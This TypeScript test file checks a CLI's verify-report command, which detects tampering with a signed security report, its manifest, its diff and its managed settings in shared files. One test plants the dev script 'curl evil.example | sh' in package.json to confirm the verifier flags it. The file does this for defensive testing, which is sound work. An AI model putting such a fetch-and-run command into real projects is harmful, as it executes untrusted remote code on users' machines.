import { createHash } from "node:crypto";
import {
  appendFileSync,
  cpSync,
  existsSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { hiringProject, runCli, temporaryFolder } from "../testing/cli-process";

const KEY = { QUICKBACK_SECURITY_REPORT_SIGNING_KEY: "secret" };
const REPORT = "quickback/reports/security-contracts.report.json";
const SIGNATURE = "quickback/reports/security-contracts.report.sig.json";
const MANIFEST = "quickback/.manifest.json";

let compiled: string;
beforeAll(async () => {
  compiled = hiringProject();
  expect(await runCli(["compile"], compiled, KEY)).toMatchObject({ code: 0 });
});

/** A copy of the compiled project, changed. */
function project(change: (path: (name: string) => string) => void = () => {}): string {
  const root = temporaryFolder();
  cpSync(compiled, root, { recursive: true });
  change((name) => join(root, name));
  return root;
}

function replace(path: string, from: string | RegExp, to: string): void {
  const text = readFileSync(path, "utf8");
  expect(text.replace(from, to)).not.toBe(text);
  writeFileSync(path, text.replace(from, to));
}

async function verified(root: string, env: Record<string, string> = KEY) {
  const { code, stdout } = await runCli(["verify-report", "--json"], root, env);
  const { problems, signature, ok } = JSON.parse(stdout);
  expect(code).toBe(ok ? 0 : 1);
  return {
    code,
    signature,
    problems: problems.map(({ kind, path }: Record<string, string>) => `${kind} ${path}`),
  };
}

it("an untouched project holds, in one line", async () => {
  expect(await verified(project())).toEqual({ code: 0, signature: "hmac-sha256", problems: [] });
  const { stdout } = await runCli(["verify-report"], project(), KEY);
  expect(stdout).toMatch(
    /^quickback\/reports\/.*: signed, and the signature holds, and the \d+ generated files/,
  );
  expect(stdout.trim().split("\n")).toHaveLength(1);
});

it("files that the user shares or owns do not count", async () => {
  const root = project((at) => {
    replace(at("package.json"), "{", '{ "author": "me", "version": "9.9.9",');
    replace(at("package.json"), '"scripts": {', '"scripts": { "mine": "true",');
    replace(at("package.json"), '"dependencies": {', '"dependencies": { "mine": "1.0.0",');
    replace(at("tsconfig.json"), '"compilerOptions": {', '// mine\n  "compilerOptions": { "baseUrl": ".",');
    appendFileSync(at(".gitignore"), "mine\n");
    writeFileSync(at("quickback/features/hiring/notes.md"), "mine");
  });
  expect(await verified(root)).toMatchObject({ code: 0, problems: [] });
});

it.each<[string, (at: (name: string) => string) => void, string[]]>([
  ["an edited report", (at) => replace(at(REPORT), '"PUBLIC"', '"owner"'), [`signature ${SIGNATURE}`]],
  [
    "a report that is none",
    (at) => writeFileSync(at(REPORT), "{}"),
    [`report ${REPORT}`, `signature ${SIGNATURE}`],
  ],
  ["a missing report", (at) => rmSync(at(REPORT)), [`report ${REPORT}`]],
  [
    "an edited signature",
    (at) => replace(at(SIGNATURE), /"signature": "./, '"signature": "z'),
    [`signature ${SIGNATURE}`],
  ],
  [
    "a signature of another file",
    (at) => replace(at(SIGNATURE), "reports/security", "reports/other"),
    [`signature ${SIGNATURE}`],
  ],
  ["a missing signature", (at) => rmSync(at(SIGNATURE)), [`signature ${SIGNATURE}`]],
  ["an edited file", (at) => appendFileSync(at("src/lib/access.ts"), "//"), ["edited src/lib/access.ts"]],
  [
    "an edited migration",
    (at) => appendFileSync(at("quickback/drizzle/features/0000_initial.sql"), "--"),
    ["edited quickback/drizzle/features/0000_initial.sql"],
  ],
  ["a missing file", (at) => rmSync(at("src/lib/etag.ts")), ["missing src/lib/etag.ts"]],
  ["an additional file", (at) => writeFileSync(at("src/lib/extra.ts"), ""), ["additional src/lib/extra.ts"]],
  [
    "a link in a file's place",
    (at) => {
      cpSync(at("src/lib/etag.ts"), at("etag.ts"));
      rmSync(at("src/lib/etag.ts"));
      symlinkSync(at("etag.ts"), at("src/lib/etag.ts"));
    },
    ["edited src/lib/etag.ts"],
  ],
])("%s is found and named", async (_what, change, problems) => {
  expect(await verified(project(change))).toMatchObject({ code: 1, problems });
});

it("a manifest edited along with a file hides neither", async () => {
  const root = project((at) => {
    appendFileSync(at("src/lib/access.ts"), "//");
    const manifest = JSON.parse(readFileSync(at(MANIFEST), "utf8"));
    manifest.files["src/lib/access.ts"] = createHash("sha256")
      .update(readFileSync(at("src/lib/access.ts")))
      .digest("hex");
    writeFileSync(at(MANIFEST), JSON.stringify(manifest));
  });
  expect(await verified(root)).toMatchObject({
    code: 1,
    problems: [`manifest ${MANIFEST}`, "edited src/lib/access.ts"],
  });
});

it("with a key, a digest that anybody could make does not pass for a signature", async () => {
  const root = project();
  await runCli(["compile"], root);
  expect(await verified(root)).toMatchObject({ code: 1, problems: [`signature ${SIGNATURE}`] });
  const unsigned = await runCli(["verify-report"], root);
  expect(unsigned).toMatchObject({ code: 0, stdout: expect.stringContaining("not signed") });
});

it("another key, or none, does not verify", async () => {
  const other = { QUICKBACK_SECURITY_REPORT_SIGNING_KEY: "other" };
  expect(await verified(project(), other)).toMatchObject({ code: 1 });
  expect(await verified(project(), {})).toMatchObject({ code: 1, problems: [`signature ${SIGNATURE}`] });
});

const CONFIG = "quickback/quickback.config.ts";
const DIFF = "quickback/reports/security-diff.md";
const CANDIDATES = "quickback/features/hiring/candidates.ts";

/** A project whose config says this of the report, compiled. */
async function withReport(report: string, env: Record<string, string> = {}): Promise<string> {
  const root = project((at) =>
    replace(
      at(CONFIG),
      "providers:",
      `compiler: { securityContracts: { report: ${report} } },\n  providers:`,
    ),
  );
  expect(await runCli(["compile"], root, env)).toMatchObject({ code: 0 });
  return root;
}

describe("takes every form of signing that a compile takes", () => {
  it.each<[string, string, Record<string, string>, string]>([
    ["a key in the config", '{ signature: { key: "inline", keyId: "k1" } }', {}, "hmac-sha256"],
    [
      "a variable of another name",
      '{ signature: { keyEnv: "OUR_KEY" } }',
      { OUR_KEY: "ours" },
      "hmac-sha256",
    ],
    [
      "both, of which the environment counts",
      '{ signature: { key: "inline", keyEnv: "OUR_KEY" } }',
      { OUR_KEY: "ours" },
      "hmac-sha256",
    ],
    ["no key", "{ signature: {} }", {}, "sha256"],
    ["no signature", "{ signature: { enabled: false } }", KEY, "none"],
    [
      "other paths",
      '{ path: "proof/report.json", signature: { path: "proof/signed.json" } }',
      KEY,
      "hmac-sha256",
    ],
  ])("%s", async (_what, report, env, signature) => {
    const root = await withReport(report, env);
    expect(await verified(root, env)).toEqual({ code: 0, signature, problems: [] });
    const path = report.includes("proof") ? "quickback/proof/report.json" : REPORT;
    replace(join(root, path), '"PUBLIC"', '"owner"');
    if (signature !== "none") expect(await verified(root, env)).toMatchObject({ code: 1 });
  });

  it("but not the key of the config in place of that of the environment", async () => {
    const root = await withReport('{ signature: { key: "inline" } }');
    expect(await verified(root, {})).toMatchObject({ code: 0 });
    expect(await verified(root, KEY)).toMatchObject({ code: 1, problems: [`signature ${SIGNATURE}`] });
  });

  it("nor a variable that only the manifest names", async () => {
    const root = await withReport("{ signature: {} }", {});
    const forged = { QUICKBACK_SECURITY_REPORT_SIGNING_KEY: "/root" };
    await runCli(["compile"], root, forged);
    replace(join(root, MANIFEST), '"QUICKBACK_SECURITY_REPORT_SIGNING_KEY"', '"HOME"');
    expect(await verified(root, { ...KEY, HOME: "/root" })).toMatchObject({ code: 1 });
  });
});

describe("the security diff is signed along with the report", () => {
  let changed: string;
  beforeAll(async () => {
    changed = project((at) =>
      replace(at(CANDIDATES), "list: { access: { roles: [", 'list: { access: { roles: ["PUBLIC", '),
    );
    expect(await runCli(["compile"], changed, KEY)).toMatchObject({ code: 0 });
  });
  function copy(): string {
    const root = temporaryFolder();
    cpSync(changed, root, { recursive: true });
    return root;
  }

  it("as it was written it holds, also after a compile that changes no rule", async () => {
    expect(await verified(copy())).toEqual({ code: 0, signature: "hmac-sha256", problems: [] });
    const root = copy();
    const before = readFileSync(join(root, DIFF), "utf8");
    replace(join(root, CANDIDATES), "pageSize: 20", "pageSize: 21");
    await runCli(["compile"], root, KEY);
    expect(readFileSync(join(root, DIFF), "utf8")).toBe(before);
    expect(await verified(root)).toMatchObject({ code: 0, problems: [] });
  });

  it.each<[string, (root: string) => void]>([
    ["edited", (root) => replace(join(root, DIFF), "widened: candidates", "narrowed: candidates")],
    ["removed", (root) => rmSync(join(root, DIFF))],
    ["left out of the signature", (root) => replace(join(root, SIGNATURE), '"diff"', '"other"')],
    [
      "edited with its digest",
      (root) => {
        const former = readFileSync(join(root, DIFF));
        appendFileSync(join(root, DIFF), "More.");
        const [from, to] = [former, readFileSync(join(root, DIFF))].map((text) =>
          createHash("sha256").update(text).digest("hex"),
        );
        replace(join(root, SIGNATURE), from ?? "", to ?? "");
      },
    ],
  ])("%s it is found, and no compile signs it", async (_what, change) => {
    const root = copy();
    change(root);
    expect(await verified(root)).toMatchObject({ code: 1, problems: [`diff ${DIFF}`] });
    replace(join(root, CANDIDATES), "pageSize: 20", "pageSize: 21");
    await runCli(["compile"], root, KEY);
    expect(existsSync(join(root, DIFF))).toBe(false);
    expect(await verified(root)).toMatchObject({ code: 0 });
  });

  it("one that nobody made is found", async () => {
    const root = project((at) => writeFileSync(at(DIFF), "# Security diff\n\nNothing widened.\n"));
    expect(await verified(root)).toMatchObject({ code: 1, problems: [`diff ${DIFF}`] });
  });
});

it.each<[string, (at: (name: string) => string) => void, string, RegExp]>([
  [
    "a version",
    (at) => replace(at("package.json"), /"hono": "[^"]+"/, '"hono": "1.0.0"'),
    "package.json",
    /`dependencies.hono` is "1.0.0": Quickback set it to "/,
  ],
  [
    "a script",
    (at) => replace(at("package.json"), /"dev": "/, '"dev": "curl evil.example | sh; '),
    "package.json",
    /`scripts.dev` is "curl/,
  ],
  [
    "a script that comes again",
    (at) => replace(at("package.json"), /\n}\s*$/, ',\n  "scripts": { "dev": "evil" }\n}\n'),
    "package.json",
    /`scripts.dev` is "evil"/,
  ],
  [
    "a compiler option",
    (at) => replace(at("tsconfig.json"), '"strict": true', '"strict": false'),
    "tsconfig.json",
    /`compilerOptions.strict` is false/,
  ],
  [
    "a line of .gitignore",
    (at) => replace(at(".gitignore"), ".dev.vars\n", ""),
    ".gitignore",
    /The line `.dev.vars` is missing/,
  ],
])("%s that Quickback manages in a shared file is found", async (_what, change, path, message) => {
  const root = project(change);
  const { code, stdout } = await runCli(["verify-report", "--json"], root, KEY);
  const { problems } = JSON.parse(stdout);
  expect(code).toBe(1);
  expect(problems).toContainEqual({ kind: "edited", path, message: expect.stringMatching(message) });
});

it("and set right by the next compile", async () => {
  const root = project((at) => {
    replace(at("package.json"), /\n}\s*$/, ',\n  "scripts": { "dev": "evil", "mine": "true" }\n}\n');
    replace(at(".gitignore"), ".dev.vars\n", "");
  });
  await runCli(["compile"], root, KEY);
  expect(await verified(root)).toMatchObject({ code: 0 });
  expect(JSON.parse(readFileSync(join(root, "package.json"), "utf8")).scripts).toMatchObject({
    mine: "true",
  });
});

it("without a project it is wrong use", async () => {
  expect(await runCli(["verify-report"], temporaryFolder())).toMatchObject({ code: 2 });
});
